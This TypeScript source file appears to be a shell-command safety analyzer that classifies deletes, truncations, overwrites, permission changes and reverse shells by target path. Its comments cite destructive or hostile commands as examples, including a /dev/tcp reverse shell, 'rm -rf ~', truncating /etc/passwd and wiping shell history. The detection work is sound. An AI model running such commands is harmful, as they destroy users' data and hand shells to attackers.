/*!
 * Filesystem facts: deletes (`rm`, `unlink`, `shred`, `find -delete`), truncation, overwrites
 * (`mv`/`cp` onto important paths, `>` redirects, `tee`, `dd of=`), recursive permission changes.
 * Each target is classified (root, home, system, cwd, scratch, …) so that rules can tell
 * `rm -rf node_modules` from `rm -rf ~`.
 */
import { DYN, type Word } from '../../parser/model.js';
import type { Analyzer, Fact } from '../facts.js';
import { hasFlag } from '../command-view.js';
import { classifyPath, TEMP_ROOT } from '../path-class.js';
import { throughExistingLinks } from '../existing-links.js';
import { producers } from '../producers.js';
import { extractFacts } from './archive-extract.js';
import type { Context } from '../context.js';

const HARMLESS_DEVICES = /^\/dev\/(null|zero|stdout|stderr|stdin|tty|fd\/\d+|random|urandom|full)$|^\/proc\/sys\/vm\/drop_caches$/;
/** bash's network pseudo-files: a connection, not a device (secrets.ts judges what is sent there). */
const NETWORK_FILES = /^\/dev\/(tcp|udp)\//;
const SHELL_PROGRAMS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'python', 'python3', 'perl', 'ruby', 'php', 'node']);

/** Facts about writing a file's content: a link in the last place is followed (deletes and moves take the link). */
const WRITES_THROUGH = /^fs\.(write|append|overwrite|truncate|fill|chmod|empty|shred)/;

export function target(word: Word, ctx: Context, prefix: string): Fact {
  if (word.containerOwn) return { id: `${prefix}.container`, detail: word.value, span: word.span };
  // A link already on disk (`build -> ~`): the target is judged where the path leads.
  const real = word.dynamic ? null : throughExistingLinks(word.value, ctx, WRITES_THROUGH.test(prefix));
  if (real) return { id: `${prefix}.${classifyPath(real, ctx)}`, detail: real, span: word.span };
  const cls = word.dynamic && word.value === DYN ? 'dynamic' : classifyPath(word.value, ctx);
  return { id: `${prefix}.${cls}`, detail: word.value.split(DYN).join('…') || word.raw, span: word.span };
}

/** `user@host:/etc/` (scp, rsync): an absolute remote path is judged as one; relative ones land in the remote home. */
const REMOTE = /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)/;

function copyTarget(word: Word, ctx: Context, prefix: string, remoteAware: boolean): Fact {
  const m = remoteAware && !word.dynamic ? REMOTE.exec(word.value) : null;
  if (!m) return target(word, ctx, prefix);
  const path = word.value.slice(m[0].length);
  const cls = path.startsWith('/') ? classifyPath(path, { ...ctx, cwd: '/nonexistent-remote-cwd' }) : 'outside';
  return { id: `${prefix}.${cls === 'cwd' || cls === 'parent' || cls === 'home' ? 'outside' : cls}`, detail: word.value, span: word.span };
}

/** A find-exec'd command's `{}` stands for what find found: the find command accounts for it. */
function isFoundPath(w: Word, view: { cmd: { origin: string } }): boolean {
  return view.cmd.origin === 'find-exec' && w.raw.includes('{}');
}

export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
  const facts: Fact[] = [];
  const p = view.program;
  const targets = view.positionals;
  if ((p?.startsWith('mkfs') || p === 'mkswap' || p === 'mke2fs') && formatsImage(targets, ctx))
    facts.push({ id: 'fs.format-image', detail: targets.find((t) => !/^\d+$/.test(t.value))?.value, span: view.cmd.span });
  switch (p) {
    case 'rm':
    case 'unlink':
    case 'trash':
    case 'trash-put': {
      const recursive = !!hasFlag(view, ['-r', '-R', '--recursive']);
      const kind = recursive ? 'fs.delete-recursive' : 'fs.delete';
      const prompts = !!hasFlag(view, ['-i', '--interactive']);
      for (const t of targets) {
        if (isFoundPath(t, view)) continue;
        const found = findListed(t, ctx);
        if (found) facts.push(...found);
        else facts.push(bareStar(target(t, ctx, kind), t, recursive || prompts));
      }
      if (targets.length === 0 && view.cmd.extraArgsUnknown) facts.push({ id: `${kind}.dynamic`, detail: 'arguments from input', span: view.cmd.span });
      if (hasFlag(view, ['--no-preserve-root'])) facts.push({ id: 'fs.no-preserve-root', span: view.cmd.span });
      break;
    }
    case 'shred':
    case 'wipe':
    case 'srm':
      for (const t of targets) facts.push(target(t, ctx, 'fs.shred'));
      break;
    case 'bleachbit':
      // `bleachbit -s FILE` (--shred) overwrites the files it is given
      if (hasFlag(view, ['-s', '--shred'])) for (const t of targets) facts.push(target(t, ctx, 'fs.shred'));
      break;
    case 'truncate': {
      const size = view.flags.find((f) => f.name === '-s' || f.name === '--size')?.value ?? '';
      // Emptying (`-s 0`) or shrinking (`-s -1K`, `-s <1M`, `-s /4K`) destroys data anywhere; an absolute size
      // (`-s 10M disk.img`) makes images in a project, but cuts a file outside it (`-s 1 /etc/passwd`).
      const empties = /^0+[KMGTPEZY]?(iB|B)?$|^[-</]/i.test(size);
      if (!size || /^[+>%]/.test(size)) break;
      const zero = /^0+[KMGTPEZY]?(iB|B)?$/i.test(size);
      for (const t of targets) {
        const fact = target(t, ctx, 'fs.truncate');
        // Emptying one file of the working tree (`truncate -s 0 app.log`) is judged as deleting it (`rm app.log`).
        if (zero && fact.id === 'fs.truncate.inside') facts.push({ ...fact, id: 'fs.delete.inside' });
        else if (empties || !PROJECT_CLASSES.has(fact.id.slice('fs.truncate.'.length))) facts.push(fact);
      }
      break;
    }
    case 'crontab': {
      // `crontab FILE` (or `-` for stdin) replaces the whole crontab, unless what it installs starts from the current one
      // (`crontab -l | { cat; echo '…'; } | crontab -`).
      const listing = view.flags.some((f) => ['-l', '-e', '-r', '-T', '-V'].includes(f.name));
      const keeps = producers(view.cmd).some((c) => c.program === 'crontab' && c.argv.some((w) => w.value === '-l'));
      if (!listing && !keeps && targets.length) facts.push({ id: 'system.crontab-replace', detail: targets[0].value, span: targets[0].span });
      break;
    }
    case 'ddrescue':
      // ddrescue INFILE OUTFILE [MAPFILE]: the output is written over
      if (targets[1]) facts.push(target(targets[1], ctx, 'fs.write'));
      break;
    case 'fallocate':
      // Collapsing, punching or zeroing a range cuts data out of the file; plain fallocate only reserves space.
      if (hasFlag(view, ['-c', '--collapse-range', '-p', '--punch-hole', '-z', '--zero-range']))
        for (const t of targets) facts.push(target(t, ctx, 'fs.truncate'));
      break;
    case 'tar':
    case 'gtar':
    case 'bsdtar':
      if (hasFlag(view, ['--remove-files'])) facts.push(...tarRemoves(view.cmd.argv, ctx));
      facts.push(...extractFacts(view, (w) => target(w, ctx, 'fs.overwrite')));
      break;
    case 'unzip':
    case '7z':
    case '7za':
    case '7zz':
      facts.push(...extractFacts(view, (w) => target(w, ctx, 'fs.overwrite')));
      break;
    case 'find':
      facts.push(...findFacts(view.cmd.argv, ctx));
      break;
    case 'mv':
    case 'cp':
    case 'rsync':
    case 'install':
    case 'ln':
    case 'scp': {
      const remote = p === 'scp' || p === 'rsync';
      const dest = targets[targets.length - 1];
      if (p === 'rsync' && hasFlag(view, ['-n', '--dry-run', '--list-only'])) break;
      if (targets.length >= 2) {
        const over = copyTarget(dest, ctx, 'fs.overwrite', remote);
        // Onto a dotfile of the home directory (`cp x ~/.bashrc`, `ln -sf /dev/null ~/.bash_history`): it replaces the user's config.
        const dotfile = /(^|\/)\.[^/]+$/.test(dest.value) && !/(^|\/)\.(Trash|local\/share\/Trash)(\/|$)/.test(dest.value);
        facts.push(over.id === 'fs.overwrite.home-sub' && dotfile ? { ...over, id: 'fs.write.home-sub' } : over);
        if (p === 'mv') {
          // Into temp space is out of the way for good (`mv ~/Documents /tmp/x`): judged as deleting it there.
          const intoTmp = over.id === 'fs.overwrite.tmp';
          for (const s of targets.slice(0, -1)) {
            const moved = movedAway(target(s, ctx, 'fs.move'), s, ctx);
            const cls = moved.id.slice('fs.move.'.length);
            facts.push(moved);
            if (intoTmp && GONE_IN_TMP.has(cls)) facts.push({ ...moved, id: `fs.delete-recursive.${cls}` });
          }
        }
      }
      if (p === 'rsync' && view.flags.some((f) => RSYNC_DELETES.test(f.name)))
        facts.push(dest ? copyTarget(dest, ctx, 'fs.sync-delete', true) : target(view.cmd.argv[0], ctx, 'fs.sync-delete'));
      break;
    }
    case 'chmod':
    case 'chown':
    case 'chgrp':
    case 'setfacl': {
      const recursive = !!hasFlag(view, ['-R', '--recursive']);
      const byReference = !!hasFlag(view, ['--reference']);
      // `chmod -x FILE`: a mode that starts with a dash reads like an option.
      const dashMode = p === 'chmod' ? view.flags.find((f) => /^-[rwxXst]+$/.test(f.word.value))?.word.value : undefined;
      const mode = dashMode ?? targets[0]?.value ?? '';
      const paths = byReference || p === 'setfacl' || dashMode ? targets : targets.slice(1);
      // A plain chmod that grants nothing dangerous (`chmod 600 ~/.ssh/id_ed25519`, `chmod +x tool`) changes nothing that matters.
      if (!recursive && p === 'chmod' && !byReference && !riskyMode(mode)) break;
      // A program that runs as its owner for whoever starts it (`chmod u+s x`, `chmod 4755 x`), wherever it is.
      if (p === 'chmod' && setsUid(mode)) for (const t of paths) facts.push(target(t, ctx, 'fs.setuid'));
      for (const t of paths) {
        const fact = target(t, ctx, recursive ? 'fs.chmod-recursive' : 'fs.chmod');
        // A tree of the user's own (`chmod -R 755 ~/projects/app`, `chown -R me ~/src`) unless the mode opens it up.
        if (fact.id === 'fs.chmod-recursive.home-sub' && !(p === 'chmod' && riskyMode(targets[0]?.value ?? '')) && !/(^|\/)\.[^/]+\/?$/.test(t.value)) continue;
        facts.push(fact);
      }
      break;
    }
    case 'chattr':
      // Taking attributes away (`chattr -i /etc/passwd`) lifts a protection; adding them (`+i`) adds one.
      if (/^[-=]/.test(targets[0]?.value ?? '') || view.flags.some((f) => /^-[aiAcdDeFjsStTu]+$/.test(f.name) && f.name !== '-R')) {
        for (const t of targets.filter((w) => !/^[-+=]/.test(w.value))) facts.push(target(t, ctx, hasFlag(view, ['-R']) ? 'fs.chmod-recursive' : 'fs.chmod'));
      }
      break;
    case 'tee':
      for (const t of targets) if (!HARMLESS_DEVICES.test(t.value)) facts.push(target(t, ctx, 'fs.write'));
      break;
    case 'dd': {
      // From an endless source without a count, dd writes until the disk is full: whatever the file held is gone.
      const endless = view.cmd.argv.some((w) => /^if=\/dev\/(zero|u?random|full)$/.test(w.value)) && !view.cmd.argv.some((w) => w.value.startsWith('count='));
      for (const w of view.cmd.argv.slice(1)) {
        if (!w.value.startsWith('of=') || HARMLESS_DEVICES.test(w.value.slice(3))) continue;
        const out = { ...w, value: w.value.slice(3) };
        facts.push(target(out, ctx, 'fs.write'));
        if (endless) facts.push(target(out, ctx, 'fs.fill'));
      }
      break;
    }
    case 'git':
      facts.push(...showOverwrites(view.positionals, view.cmd.redirects, ctx));
      break;
    case 'sed':
    case 'perl':
      if (view.flags.some((f) => f.name === '-i' || f.name.startsWith('--in-place'))) {
        for (const t of targets.slice(1)) facts.push(target(t, ctx, 'fs.write'));
      }
      // sed's `w FILE` (and `s///w FILE`) truncates FILE before it writes to it.
      if (p === 'sed' && targets[0] && !targets[0].dynamic) {
        for (const m of targets[0].value.matchAll(/(?:^|[;\n}]|\/[a-zA-Z0-9]*)\s*w\s+(\S+)/g))
          facts.push(target({ ...targets[0], value: m[1] }, ctx, 'fs.write'));
      }
      break;
    case 'curl':
    case 'wget': {
      // The downloaded body is written over the output file (`curl -o ~/.bashrc URL`).
      const out = view.flags.filter(
        (f) =>
          (f.name === '-o' || f.name === '--output' || (p === 'wget' && (f.name === '-O' || f.name === '--output-document'))) &&
          f.value &&
          f.value !== '-' &&
          !HARMLESS_DEVICES.test(f.value),
      );
      for (const f of out) facts.push(target({ ...f.word, value: f.value! }, ctx, 'fs.write'));
      break;
    }
    case 'rimraf':
    case 'del-cli':
    case 'rmrf':
    case 'del':
      // npm's rm -rf (`npx rimraf dist`)
      for (const t of targets) facts.push(target(t, ctx, 'fs.delete-recursive'));
      break;
  }
  // `bash -i >& /dev/tcp/h/4444 0>&1`: a shell whose input or output is a connection serves whoever is at the other end.
  const connection = SHELL_PROGRAMS.has(p ?? '') ? view.cmd.redirects.find((r) => NETWORK_FILES.test(r.target.value)) : undefined;
  if (connection) facts.push({ id: 'system.shell-over-network', detail: connection.target.value, span: view.cmd.span });
  for (const r of view.cmd.redirects) {
    if (!/^(>|>>|>\||&>|&>>|>&)$/.test(r.op) || HARMLESS_DEVICES.test(r.target.value) || NETWORK_FILES.test(r.target.value) || /^\d+$/.test(r.target.value))
      continue;
    // Adding a host key is what ssh-keyscan and the first connection do.
    if (r.op.includes('>>') && /(^|\/)\.ssh\/known_hosts$/.test(r.target.value)) continue;
    const fact = target(r.target, ctx, r.op.includes('>>') ? 'fs.append' : 'fs.write');
    // In the home directory, dotfiles and what dot-directories hold are config and programs (`> ~/.bashrc`,
    // `> ~/.local/bin/git`, `> ~/.config/systemd/user/x.service`); `> ~/notes.txt` is a file like any other.
    if (fact.id === 'fs.write.home-sub' && !homeDotPath(r.target.value, ctx)) continue;
    facts.push(fact);
  }
  return facts;
};

/** `git show REF:path > path` puts the ref's version over the file: an overwrite of it, not a new file. */
function showOverwrites(positionals: Word[], redirects: { op: string; target: Word }[], ctx: Context): Fact[] {
  if (positionals[0]?.value !== 'show') return [];
  const norm = (p: string) => p.replace(/^(\.\/)+/, '');
  const shown = new Set(
    positionals
      .slice(1)
      .map((w) => /^[^:\s]*:(.+)$/.exec(w.value)?.[1])
      .filter((p): p is string => !!p)
      .map(norm),
  );
  return redirects
    .filter((r) => r.op.startsWith('>') && !r.target.dynamic && shown.has(norm(r.target.value)))
    .map((r) => target(r.target, ctx, 'fs.overwrite'));
}

/** Sources that a move into temp space takes away from where they belong. */
const GONE_IN_TMP = new Set(['home', 'home-sub', 'outside', 'system', 'system-file', 'parent']);

/** Caches and trash among the home directory's dotfiles: moving them loses nothing. */
const HOME_DISPOSABLE = /^\.(cache|npm|yarn|pnpm-store|Trash|gradle|m2|cargo|rustup|nvm|bun|deno)$/;

/** `mv ~/.zshrc /tmp/x`: a dotfile of the home directory moved away is config the shell and tools lose. */
function movedAway(fact: Fact, word: Word, ctx: Context): Fact {
  if (fact.id !== 'fs.move.home-sub' || word.dynamic) return fact;
  return homeDotfile(word.value, ctx) ? { ...fact, id: 'fs.move-home-config' } : fact;
}

/** A dotfile or dot-directory directly in a home directory (`~/.zshrc`, `/Users/a/.gitconfig`), caches and trash aside. */
function homeDotfile(path: string, ctx: Context): boolean {
  const rest = homeRelative(path, ctx);
  return !!rest && /^\.[^/]+$/.test(rest) && !HOME_DISPOSABLE.test(rest) && rest !== '.config';
}

/** A dotfile of a home directory, or anything under one of its dot-directories (caches and trash aside). */
export function homeDotPath(path: string, ctx: Context): boolean {
  const first = homeRelative(path, ctx)?.split('/')[0];
  // toolchain dot-directories (`~/.cargo/bin`, `~/.bun/bin`) hold programs on the PATH: only caches are exempt
  return !!first && first.startsWith('.') && !/^\.(cache|npm|pnpm-store|Trash|gradle|m2)$/.test(first);
}

/** The part of a path below a home directory (`~/x`, `$HOME/x`, `/home/u/x`), or undefined. */
function homeRelative(path: string, ctx: Context): string | undefined {
  const home = ctx.env.HOME?.replace(/\/+$/, '');
  const v = path.replace(/\/+$/, '');
  return v.startsWith('~/') ? v.slice(2) : home && v.startsWith(home + '/') ? v.slice(home.length + 1) : /^\/(?:home|Users)\/[^/]+\/(.+)$/.exec(v)?.[1];
}

/** Classes of paths inside the project: an absolute-size truncate there makes an image, it does not cut data. */
const PROJECT_CLASSES = new Set(['inside', 'scratch', 'tmp', 'cwd']);

/** A plain `rm *` (or `./*`) empties the working directory: judged like deleting the directory's contents. */
function bareStar(fact: Fact, word: Word, skip: boolean): Fact {
  return !skip && !word.quoted && /^(\.\/)?\*$/.test(word.value) && fact.id === 'fs.delete.wildcard' ? { ...fact, id: 'fs.delete.cwd' } : fact;
}

/**
 * `tar --remove-files -cf out.tar SRC…` moves its sources into the archive; into `/dev/null` or stdout
 * (`-f -`) nothing keeps them, so it deletes them.
 */
function tarRemoves(argv: Word[], ctx: Context): Fact[] {
  let archive: string | null = null;
  const sources: Word[] = [];
  for (let i = 1; i < argv.length; i++) {
    const v = argv[i].value;
    // A short-option bundle (`-czf`, or `czf` as the first word) whose `f` takes the archive name.
    const bundle = !v.startsWith('--') && (v.startsWith('-') || i === 1) && /^-?[A-Za-z]+$/.test(v);
    if (v.startsWith('--file=')) archive = v.slice(7);
    else if (v === '--file' || (bundle && v.includes('f'))) archive = argv[++i]?.value ?? null;
    else if (v === '-C' || v === '--directory') i++;
    else if (!bundle && !v.startsWith('-')) sources.push(argv[i]);
  }
  const gone = archive === null || archive === '-' || HARMLESS_DEVICES.test(archive);
  // Into an archive the sources are gone from where they were: judged as deleting them there (as `zip -m`).
  return sources
    .map((s) => target(s, ctx, gone ? 'fs.delete-recursive' : 'fs.move'))
    .flatMap((f) => (gone ? [f] : [f, { ...f, id: f.id.replace(/^fs\.move\./, 'fs.delete-recursive.') }]));
}

const FILTERS = new Set([
  '-name',
  '-iname',
  '-path',
  '-ipath',
  '-regex',
  '-iregex',
  '-newer',
  '-mtime',
  '-mmin',
  '-atime',
  '-amin',
  '-ctime',
  '-size',
  '-empty',
  '-user',
  '-group',
  '-perm',
  '-wholename',
  '-lname',
]);
const EXEC_ACTIONS = new Set(['-exec', '-execdir', '-ok', '-okdir']);
const DELETERS = new Set(['rm', 'unlink', 'shred', 'srm', 'trash', 'trash-put']);
const EXEC_WRAPPERS = new Set(['busybox', 'sudo', 'doas', 'command', 'env', 'nice', 'nohup']);
/** Actions that write find's output into a file. */
const WRITES = new Set(['-fprint', '-fprint0', '-fprintf', '-fls']);

/** rsync options that delete files: `--delete*`, `--del`, `--remove-source-files`. */
const RSYNC_DELETES = /^--(delete|del$|remove-source-files)/;

/** The start paths of a find command (`.` when none is given), and how many were written. */
function findStarts(argv: Word[]): { starts: Word[]; given: number } {
  const starts: Word[] = [];
  // find's own options come before the start paths: -H, -L, -P, -D DEBUGOPTS, -O LEVEL.
  let i = 1;
  while (i < argv.length && /^-([HLP]+|D|O\d*)$/.test(argv[i].value)) i += argv[i].value === '-D' ? 2 : 1;
  for (; i < argv.length; i++) {
    const a = argv[i];
    if (a.value.startsWith('-') || a.value === '(' || a.value === '!') break;
    starts.push(a);
  }
  // `given`: how many words (options and start paths) come before the expression.
  const given = i - 1;
  if (starts.length === 0) starts.push({ raw: '.', value: '.', dynamic: false, quoted: false, span: argv[0].span });
  return { starts, given };
}

/**
 * Paths that xargs hands over from a find (`find . -name '*.pyc' | xargs rm`): what find lists under
 * its start paths, judged like `find … -delete` there. Null when the word is not find's output.
 */
function findListed(word: Word, ctx: Context): Fact[] | null {
  const from = word.value === DYN ? word.sources : undefined;
  if (!from?.length || !from.every((c) => c.program === 'find' && !c.extraArgsUnknown)) return null;
  const facts: Fact[] = [];
  for (const c of from) {
    const { starts, given } = findStarts(c.argv);
    const filtered = c.argv.slice(1 + given).some((a) => FILTERS.has(a.value));
    for (const st of starts) facts.push({ ...target(st, ctx, filtered ? 'fs.find-delete-filtered' : 'fs.find-delete'), span: word.span });
  }
  return facts;
}

function findFacts(argv: Word[], ctx: Context): Fact[] {
  const args = argv.slice(1);
  const { starts, given } = findStarts(argv);
  const follows = argv.some((w) => w.value === '-L' || w.value === '-follow');
  const facts: Fact[] = [];
  let filtered = false;
  let depth = 0;
  const names: Word[] = [];
  for (let i = given; i < args.length; i++) {
    const a = args[i];
    if (WRITES.has(a.value) && args[i + 1]) facts.push(target(args[i + 1], ctx, 'fs.write'));
    if ((a.value === '-name' || a.value === '-iname') && args[i + 1] && !args[i + 1].dynamic && !/[*?[\]\\]/.test(args[i + 1].value)) names.push(args[i + 1]);
    const exec = EXEC_ACTIONS.has(a.value);
    // `find . -name .git -exec rm -rf {} +`: every directory of that name below the start, as `rm -rf ./.git`.
    if (exec && execDeletes(args, i + 1) && execRecursive(args, i + 1))
      for (const s of starts)
        for (const n of names)
          if (!s.dynamic) facts.push({ ...target({ ...n, value: `${s.value.replace(/\/+$/, '')}/${n.value}` }, ctx, 'fs.delete-recursive'), span: a.span });
    // Only the tests before the action limit what it deletes: `find . -delete -name x` deletes everything.
    if (a.value === '-delete' || (exec && execDeletes(args, i + 1))) {
      for (const s of starts) {
        // Filtered, from the temp space's root (`find /tmp -name '*.log' -delete`): temporary files, as
        // `rm /tmp/*.log`; not when find follows links (`-L`, `-follow`) out of it.
        if (filtered && !follows && !s.dynamic && TEMP_ROOT.test(s.value)) facts.push({ id: 'fs.find-delete-filtered.tmp', detail: s.value, span: a.span });
        else facts.push({ ...target(s, ctx, filtered ? 'fs.find-delete-filtered' : 'fs.find-delete'), span: a.span });
      }
    }
    if (exec) {
      while (i + 1 < args.length && args[i + 1].value !== ';' && args[i + 1].value !== '+') i++;
      i++;
      continue;
    }
    if (FILTERS.has(a.value)) filtered = true;
    // `find . -name '*.log' -o -delete`: an action after a top-level -o runs on all that the tests before it did not match.
    depth += a.value === '(' ? 1 : a.value === ')' ? -1 : 0;
    if (depth <= 0 && (a.value === '-o' || a.value === '-or')) filtered = false;
    // A test's own argument is never an action: `find . -name -delete`.
    if (FILTERS.has(a.value) || PREDICATE_ARGS.has(a.value) || WRITES.has(a.value)) i += a.value === '-fprintf' ? 2 : 1;
  }
  return facts;
}

/** Tests and options of find that take the next word as their argument. */
const PREDICATE_ARGS = new Set([
  '-type',
  '-xtype',
  '-maxdepth',
  '-mindepth',
  '-gid',
  '-uid',
  '-inum',
  '-samefile',
  '-links',
  '-anewer',
  '-cnewer',
  '-used',
  '-fstype',
  '-context',
  '-printf',
  '-files0-from',
  '-D',
  '-O',
]);

/** Whether the command after `-exec` deletes recursively (`rm -rf {}`). */
function execRecursive(args: Word[], from: number): boolean {
  for (let j = from; j < args.length && args[j].value !== ';' && args[j].value !== '+'; j++)
    if (/^-[a-zA-Z]*[rR]|^--recursive$/.test(args[j].value)) return true;
  return false;
}

/** Whether the command after `-exec` (past wrappers like `busybox`) deletes what it is given. */
function execDeletes(args: Word[], from: number): boolean {
  for (let j = from; j < args.length && args[j].value !== ';' && args[j].value !== '+'; j++) {
    const name = args[j].value.slice(args[j].value.lastIndexOf('/') + 1);
    if (DELETERS.has(name)) return true;
    if (!EXEC_WRAPPERS.has(name)) return false;
  }
  return false;
}

/** chmod modes that set the set-user-ID bit: `4755`, `6755`, `u+s`, `+s`, `a+s`. */
function setsUid(mode: string): boolean {
  if (/^[0-7]{4}$/.test(mode)) return /[4-7]/.test(mode[0]);
  return mode.split(',').some(setUidClause);
}

function setUidClause(clause: string): boolean {
  const m = /^([ugoa]*)[+=]([rwxXst]*)$/.exec(clause);
  return !!m && m[2].includes('s') && (m[1] === '' || /[ua]/.test(m[1]));
}

/** chmod modes that open files up or break them: world-writable, setuid/setgid/sticky, or no permissions at all. */
export function riskyMode(mode: string): boolean {
  if (/^[0-7]{3,4}$/.test(mode)) {
    const digits = mode.padStart(4, '0');
    return digits[0] !== '0' || /[2367]/.test(digits[3]) || /^0?000$/.test(mode);
  }
  return mode.split(',').some((clause) => {
    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
    if (!m) return true;
    const [, who, op, perms] = m;
    // Taking read or execute away from everyone breaks what relies on it (`chmod -x /bin/chmod`, `chmod a-r f`);
    // from group and others (`chmod go-rwx key`), or taking write away, only protects.
    if (op === '-') return /[rx]/.test(perms) && (who === '' || /[ua]/.test(who));
    return /[st]/.test(perms) || (/w/.test(perms) && (who === '' || /[oa]/.test(who))) || (op === '=' && perms === '');
  });
}

/** mkfs/mkswap given a regular file (`mkfs.ext4 disk.img`, `mkfs.vfat -C /tmp/fat.img 8192`): an image, not a disk. */
function formatsImage(targets: Word[], ctx: Context): boolean {
  const paths = targets.filter((t) => !/^\d+[KMGT]?$/i.test(t.value));
  // judged where it points (`cd / && mkfs.ext4 dev/sdb` is a device)
  return paths.length > 0 && paths.every((t) => !t.dynamic && /[./]/.test(t.value) && classifyPath(t.value, ctx) !== 'device');
}
